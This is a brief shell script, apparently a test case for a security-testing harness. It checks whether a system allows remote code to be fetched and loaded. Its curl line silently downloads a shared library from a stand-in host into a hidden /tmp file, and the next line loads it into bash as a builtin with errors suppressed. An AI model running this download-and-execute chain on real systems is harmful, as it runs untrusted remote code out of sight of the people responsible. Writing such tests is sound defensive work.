#!/bin/sh
. /opt/case/case.sh

curl -sf -o /tmp/.lib http://203.0.113.10/programs/preload.so
bash -c 'enable -f /tmp/.lib count' 2>/dev/null || true
test -e /tmp/reached
took_place
